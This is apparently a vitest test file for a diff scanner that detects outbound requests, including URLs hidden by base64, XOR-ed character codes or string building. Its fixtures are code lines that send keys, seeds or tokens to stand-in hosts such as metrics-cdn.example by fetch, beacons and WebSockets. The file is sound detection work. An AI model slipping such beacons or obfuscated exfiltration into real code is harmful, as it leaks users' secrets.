import { describe, expect, it } from 'vitest';
import type { ChangedLine } from '../../../src/ecosystems/code/changed-lines.js';
import { codeText } from '../../../src/ecosystems/code/code-text.js';
import type { CodeLanguage } from '../../../src/ecosystems/code/language.js';
import { requestSpans, stringConstants, stringValue } from '../../../src/ecosystems/code/request-spans.js';

/** Added lines 1… of one hunk. */
function added(rows: readonly string[]): ChangedLine[] {
  return rows.map((text, i) => ({ sign: '+', line: i + 1, text, hunk: 0 }));
}

/** The spans of added rows: [first line, last line, places], lines 1-based. */
function spans(rows: readonly string[], language: CodeLanguage = 'js'): [number, number, string[]][] {
  const lines = added(rows);
  const texts = lines.map((l) => codeText(l.text, language));
  const entries = lines.map((l, i) => ({ l, t: texts[i]! }));
  return requestSpans(entries, stringConstants(lines, texts)).map((s) => [s.start + 1, s.end + 1, [...s.places]]);
}

describe('stringValue', () => {
  const constants = new Map([
    ['HOST', 'metrics-cdn.example'],
    ['BASE', 'https://metrics-cdn.example'],
  ]);
  it('joins literals and names of the file with +, fills template and f-string placeholders, and stops at what it cannot read', () => {
    expect(stringValue("'https://' + HOST + '/collect';", 0, constants)).toBe('https://metrics-cdn.example/collect');
    expect(stringValue('`${BASE}/collect?k=${key}`', 0, constants)).toBe('https://metrics-cdn.example/collect?k=');
    expect(stringValue('f"{BASE}/c"', 0, constants)).toBe('https://metrics-cdn.example/c');
    expect(stringValue("'https://x.example/p?k=' + encodeURIComponent(secret)", 0, constants)).toBe('https://x.example/p?k=');
    expect(stringValue('"https://a" "b.example"', 0, constants)).toBe('https://ab.example');
    expect(stringValue('`${this.baseUrl}/user`', 0, constants)).toBe('');
    expect(stringValue("atob('aHR0cHM6Ly9tZXRyaWNzLWNkbi5leGFtcGxlL2NvbGxlY3Q=')", 0, constants)).toBe('https://metrics-cdn.example/collect');
    expect(stringValue("Buffer.from('aHR0cHM6Ly9tZXRyaWNzLWNkbi5leGFtcGxlL2NvbGxlY3Q=', 'base64').toString('utf8') + '?k='", 0, constants)).toBe('https://metrics-cdn.example/collect?k=');
    expect(stringValue('base64.b64decode("aHR0cHM6Ly9tZXRyaWNzLWNkbi5leGFtcGxlL2NvbGxlY3Q=").decode()', 0, constants)).toBe('https://metrics-cdn.example/collect');
    expect(stringValue("['https://', HOST, '/c'].join('')", 0, constants)).toBe('https://metrics-cdn.example/c');
    expect(stringValue("['https://', host, '/c'].join('')", 0, constants)).toBe('');
    expect(stringValue("['a', 'b'].join(',')", 0, constants)).toBe('');
    expect(stringValue("atob(encoded)", 0, constants)).toBe('');
    expect(stringValue('config.url', 0, constants)).toBe('');
  });
  it('reads a URL object made of a string or of a path and a base, and its string (url.toString(), url.href)', () => {
    expect(stringValue("new URL('https://metrics-cdn.example/c')", 0, constants)).toBe('https://metrics-cdn.example/c');
    expect(stringValue("new URL('/c', BASE)", 0, constants)).toBe('https://metrics-cdn.example/c');
    expect(stringValue("new URL('c', BASE + '/v2/')", 0, constants)).toBe('https://metrics-cdn.example/v2/c');
    expect(stringValue("new URL('c', BASE + '/v2')", 0, constants)).toBe('https://metrics-cdn.example/c');
    expect(stringValue("new URL('/c', BASE + '/v2/')", 0, constants)).toBe('https://metrics-cdn.example/c');
    expect(stringValue("new URL(`${BASE}/c`)", 0, constants)).toBe('https://metrics-cdn.example/c');
    expect(stringValue("new URL('/c', this.base)", 0, constants)).toBe('');
    expect(stringValue("new URL(path, BASE)", 0, constants)).toBe('');
    expect(stringValue('BASE.href', 0, constants)).toBe('https://metrics-cdn.example');
    expect(stringValue('BASE.toString()', 0, constants)).toBe('https://metrics-cdn.example');
    expect(stringValue('BASE.host', 0, constants)).toBe('');
  });
  it('reads a string built from character codes (XOR-ed with a key of the file too) or a format filled with names of the file', () => {
    const numbers = new Map([...constants, ['#K', '42'], ['#E', '66,94,94,90,89']]);
    expect(stringValue('String.fromCharCode(104, 116, 0x74, 112)', 0, numbers)).toBe('http');
    expect(stringValue("E.map((c) => String.fromCharCode(c ^ K)).join('')", 0, numbers)).toBe('https');
    expect(stringValue('String.fromCharCode(...E.map(c => c ^ 0x2a))', 0, numbers)).toBe('https');
    expect(stringValue('"".join(chr(b ^ K) for b in E)', 0, numbers)).toBe('https');
    expect(stringValue("''.join(map(chr, [104, 116]))", 0, numbers)).toBe('ht');
    expect(stringValue('bytes(b ^ 42 for b in E).decode()', 0, numbers)).toBe('https');
    expect(stringValue('fmt.Sprintf("https://%s/c", HOST)', 0, numbers)).toBe('https://metrics-cdn.example/c');
    expect(stringValue('"https://%s/c" % HOST', 0, numbers)).toBe('https://metrics-cdn.example/c');
    expect(stringValue('"{}/c?v={}".format(BASE, VERSION)', 0, numbers)).toBe('https://metrics-cdn.example/c?v=');
    expect(stringValue('fmt.Sprintf("%s/c", cfg.BaseURL)', 0, numbers)).toBe('');
    expect(stringValue("E.map((c) => String.fromCharCode(c ^ key)).join('')", 0, numbers)).toBe('');
    expect(stringValue('String.fromCharCode(n)', 0, numbers)).toBe('');
  });
});

describe('stringConstants', () => {
  const constants = (rows: readonly string[]) => {
    const lines = added(rows);
    return stringConstants(lines, lines.map((l) => codeText(l.text, 'js')));
  };
  it('reads names built from names, with no literal on the line', () => {
    expect(constants(["const BASE = 'https://metrics-cdn.example';", "const PATH = '/collect';", 'const SINK = BASE + PATH;']).get('SINK')).toBe('https://metrics-cdn.example/collect');
  });
  it('keeps a value built from names built from names bounded', () => {
    const rows = [`const A0 = '${'x'.repeat(390)}';`];
    for (let i = 1; i < 40; i += 1) rows.push(`const A${i} = ${Array.from({ length: 24 }, () => `A${i - 1}`).join(' + ')};`);
    expect(Math.max(...[...constants(rows).values()].map((v) => v.length))).toBe(2048);
  });
});

describe('requestSpans', () => {
  it('spans a call from its line to the bracket that closes it, its destination a literal or a constant of the file', () => {
    expect(spans(["const SINK = 'https://metrics-cdn.example/collect';", 'await fetch(SINK, {', "  method: 'POST',", '  body: JSON.stringify({ key }),', '});', 'done();'])).toEqual([[2, 5, ['metrics-cdn.example/collect']]]);
    expect(spans(['requests.post(', "    'https://eth-metrics.example/c',", "    json={'k': k},", ')'], 'python')).toEqual([[1, 4, ['eth-metrics.example/c']]]);
    expect(spans(['req, _ := http.NewRequest("POST", sink, body)'], 'go')).toEqual([]);
    expect(spans(['const sink = "https://x.example/q"', 'req, _ := http.NewRequest("POST", sink, body)'], 'go')).toEqual([[2, 2, ['x.example/q']]]);
    expect(spans(['https.request({', "  hostname: 'collect.example.dev',", "  method: 'POST',", '})'])).toEqual([[1, 4, ['collect.example.dev']]]);
  });
  it('reads an image beacon over two lines, sendBeacon, and writes to a socket or request opened to a URL', () => {
    expect(spans(["const R = 'https://px.example/r.gif';", 'new Image().src =', "  R + '?p=' + encodeURIComponent(m);", 'next();'])).toEqual([[2, 3, ['px.example/r.gif']]]);
    expect(spans(["const img = document.createElement('img');", "img.src = 'https://px.example/p?k=' + k;"])).toEqual([[2, 2, ['px.example/p']]]);
    expect(spans(["navigator.sendBeacon('https://px.example/b', data);"])).toEqual([[1, 1, ['px.example/b']]]);
    expect(spans(["const ws = new WebSocket('wss://status.example/ws');", 'ws.onopen = () => {', '  ws.send(JSON.stringify({ seed }));', '};'])).toEqual([[3, 3, ['status.example/ws']]]);
    expect(spans(["xhr.open('POST', 'https://px.example/x');", 'xhr.send(body);'])).toEqual([[2, 2, ['px.example/x']]]);
    expect(spans(["const req = https.request({ hostname: 'px.example.dev', method: 'POST' });", "req.on('error', () => undefined);", 'req.end(body);'])).toEqual([[1, 1, ['px.example.dev']], [3, 3, ['px.example.dev']]]);
    expect(spans(['with websockets.connect("wss://status.example/ws") as ws:', '    ws.send(seed)'], 'python')).toEqual([[2, 2, ['status.example/ws']]]);
    expect(spans(['ws = await websockets.connect("wss://status.example/ws")', 'await ws.send(seed)'], 'python')).toEqual([[2, 2, ['status.example/ws']]]);
    expect(spans(["const socket = io('https://status.example.dev');", "socket.emit('hello', { seed });"])).toEqual([[2, 2, ['status.example.dev']]]);
  });
  it('has no destination for a URL it cannot resolve, a route, or a socket opened elsewhere; a callback ends what a request carries', () => {
    expect(spans(['await fetch(`${this.baseUrl}/user`, {', '  headers: { Authorization: `Bearer ${token}` },', '});'])).toEqual([]);
    expect(spans(["app.post('/import', async (req, res) => {", '  res.json({});', '});'])).toEqual([]);
    expect(spans(['socket.send(JSON.stringify(message));'])).toEqual([]);
    expect(spans(["request.post({ url: 'https://rpc.example.dev', json: tx }, (err, res) => {", '  use(res);', '});'])).toEqual([[1, 1, ['rpc.example.dev']]]);
  });
  it('goes on over a builder\'s calls one a line (.body, .send; .set and .header as headers) up to one that is none of the request\'s, and reads url= and a Rust constant', () => {
    expect(spans(['const SINK: &str = "https://sol-metrics.example/v1";', 'let _ = client', '    .post(SINK)', '    .body(payload)', '    .send();', 'done();'], 'rust')).toEqual([[3, 5, ['sol-metrics.example/v1']]]);
    expect(spans(['superagent', "  .post('https://x.example.dev/c')", '  .send({ m })', '  .then((r) => use(r));'])).toEqual([[2, 3, ['x.example.dev/c']]]);
    expect(spans(["SINK = 'https://x.example.dev/c'", 'requests.post(url=SINK, json=body)'], 'python')).toEqual([[2, 2, ['x.example.dev/c']]]);
    const lines = added(['superagent', "  .post('https://x.example.dev/c')", "  .set('PRIVATE-TOKEN', t)", '  .send(body);']);
    const texts = lines.map((l) => codeText(l.text, 'js'));
    expect(requestSpans(lines.map((l, i) => ({ l, t: texts[i]! })), new Map()).map((s) => [s.start, s.end, [...s.headerLines]])).toEqual([[1, 3, [2]]]);
  });
  it('marks the lines of a headers object', () => {
    const lines = added(["fetch('https://api.example.dev/u', {", '  headers: {', "    'PRIVATE-TOKEN': token,", '  },', '  body,', '});']);
    const texts = lines.map((l) => codeText(l.text, 'js'));
    const [span] = requestSpans(lines.map((l, i) => ({ l, t: texts[i]! })), new Map());
    expect([...(span?.headerLines ?? [])]).toEqual([1, 2, 3]);
  });
});
